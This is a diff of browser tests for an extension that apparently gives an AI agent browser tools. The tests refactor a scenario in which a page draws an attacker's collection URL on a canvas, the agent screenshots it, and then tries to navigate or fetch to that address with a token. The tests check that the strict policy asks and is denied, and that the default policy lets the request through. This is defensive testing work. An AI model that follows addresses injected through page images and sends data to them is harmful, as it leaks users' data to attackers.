@@ -14,17 +14,16 @@ from collections.abc import Iterator
 from typing import Any
 
 import pytest
-from playwright.async_api import Page
+from mcp import Client
+from playwright.async_api import BrowserContext, Page
 
 from tabwarden.cli.browser import ThrowawayBrowser
-from tabwarden.cli.demo import wait_for_extension
 from tests.browser.harness import (
     Request,
     ServedSite,
-    chromium,
     code,
     confirm_page,
-    mcp_client,
+    launched,
     ok,
     press,
     served_pages,
@@ -32,20 +31,15 @@ from tests.browser.harness import (
     trust_this_process,
     widen,
 )
+from tests.browser.provenance import TOKEN, collected, confirm_windows, provenance_decisions
 from tests.fakes import tool_error
-from tests.fixtures import audit_entries
 
 pytestmark = pytest.mark.browser
 
-GUARD = 240.0  # hang guard only
-TOKEN = "Zx81kq2PLmQ9"
-
 
 @pytest.fixture
-def collector() -> Iterator[ServedSite]:
-    """The attacker's second origin: answers anything, GET or POST, and records it."""
-    with served_pages(fallback="ok", methods=("GET", "POST")) as site:
-        yield site
+def origins(painter: ServedSite, collector: ServedSite) -> list[str]:
+    return [painter.origin, collector.origin]
 
 
 def _char_codes(text: str) -> str:
@@ -76,17 +70,6 @@ def painter(collector: ServedSite) -> Iterator[ServedSite]:
         yield site
 
 
-def _collected(collector: ServedSite) -> list[str]:
-    return [
-        f"{r.method} {r.target} {r.body.decode(errors='replace')}" for r in collector.requests()
-    ]
-
-
-def _decisions(browser: ThrowawayBrowser) -> list[tuple[str, str]]:
-    entries = audit_entries(browser.root / "config")
-    return [(e["tool"], e["decision"]) for e in entries if e["event"] == "provenance"]
-
-
 async def _capture_the_canvas(agent: Any, painter: ServedSite) -> int:
     """Open the painted page, check the address is not in its text, and screenshot it."""
     tab: int = (await ok(agent, "tab_open", {"url": f"{painter.origin}/canvas"}))["tab"]["id"]
@@ -107,7 +90,7 @@ async def _denied(context: Any, call: asyncio.Task[Any], origin: str) -> Page:
 
 
 @pytest.mark.promise("H4-63")
-def test_an_address_drawn_on_a_canvas_is_asked_after_a_screenshot_under_strict(
+async def test_an_address_drawn_on_a_canvas_is_asked_after_a_screenshot_under_strict(
     browser: ThrowawayBrowser, painter: ServedSite, collector: ServedSite
 ) -> None:
     """The agent screenshots the canvas, then navigates and fetches to the drawn address on an
@@ -116,58 +99,45 @@ def test_an_address_drawn_on_a_canvas_is_asked_after_a_screenshot_under_strict(
     trust_this_process(browser, [painter.origin, collector.origin])
     widen(browser, provenance="strict", pageFetch=True)
     planted = f"{collector.origin}/collect?ref={TOKEN}"
-    windows: list[str] = []
 
-    async def scenario() -> None:
-        async with chromium(browser) as context, mcp_client(browser) as agent:
-            await wait_for_extension(agent, asyncio.get_running_loop().time() + 60)
-            tab = await _capture_the_canvas(agent, painter)
-            context.on(
-                "page", lambda p: windows.append(p.url) if "/confirm.html" in p.url else None
-            )
-            own = {"tabId": tab, "url": f"{painter.origin}/plain?ref={TOKEN}"}
-            assert (await ok(agent, "page_navigate", own))["url"] == own["url"]
-            assert windows == []  # the page may suggest its own addresses
-            going = asyncio.create_task(
-                agent.call_tool("page_navigate", {"tabId": tab, "url": planted})
-            )
-            await _denied(context, going, painter.origin)
-            fetching = asyncio.create_task(
-                agent.call_tool("page_fetch", {"tabId": tab, "url": planted})
-            )
-            await _denied(context, fetching, painter.origin)
-            assert _collected(collector) == []
-
-    asyncio.run(asyncio.wait_for(scenario(), GUARD))
-    assert _collected(collector) == []
+    async with launched(browser) as (context, agent):
+        tab = await _capture_the_canvas(agent, painter)
+        windows = confirm_windows(context)
+        own = {"tabId": tab, "url": f"{painter.origin}/plain?ref={TOKEN}"}
+        assert (await ok(agent, "page_navigate", own))["url"] == own["url"]
+        assert windows == []  # the page may suggest its own addresses
+        going = asyncio.create_task(
+            agent.call_tool("page_navigate", {"tabId": tab, "url": planted})
+        )
+        await _denied(context, going, painter.origin)
+        fetching = asyncio.create_task(
+            agent.call_tool("page_fetch", {"tabId": tab, "url": planted})
+        )
+        await _denied(context, fetching, painter.origin)
+        assert collected(collector) == []
+    assert collected(collector) == []
     assert len(windows) == 2
-    assert _decisions(browser) == [
+    assert provenance_decisions(browser) == [
         ("page_navigate", "confirm_denied"),
         ("page_fetch", "confirm_denied"),
     ]
 
 
-def test_under_the_default_policy_a_capture_asks_nothing_the_stated_residual(
-    browser: ThrowawayBrowser, painter: ServedSite, collector: ServedSite
+async def test_under_the_default_policy_a_capture_asks_nothing_the_stated_residual(
+    browser: ThrowawayBrowser,
+    context: BrowserContext,
+    agent: Client,
+    painter: ServedSite,
+    collector: ServedSite,
 ) -> None:
     """The same steps under provenance confirm (the default): no question, and the drawn address
     is opened — what SECURITY.md lists as a residual of the default mode."""
-    trust_this_process(browser, [painter.origin, collector.origin])
     planted = f"{collector.origin}/collect?ref={TOKEN}"
-    windows: list[str] = []
-
-    async def scenario() -> None:
-        async with chromium(browser) as context, mcp_client(browser) as agent:
-            context.on(
-                "page", lambda p: windows.append(p.url) if "/confirm.html" in p.url else None
-            )
-            await wait_for_extension(agent, asyncio.get_running_loop().time() + 60)
-            tab = await _capture_the_canvas(agent, painter)
-            assert await code(agent, "page_navigate", {"tabId": tab, "url": planted}) is None
-
-    asyncio.run(asyncio.wait_for(scenario(), GUARD))
+    windows = confirm_windows(context)
+    tab = await _capture_the_canvas(agent, painter)
+    assert await code(agent, "page_navigate", {"tabId": tab, "url": planted}) is None
     assert windows == []
-    assert _decisions(browser) == []
+    assert provenance_decisions(browser) == []
     assert [r.target for r in collector.requests() if r.method == "GET"][:1] == [
         f"/collect?ref={TOKEN}"
     ]
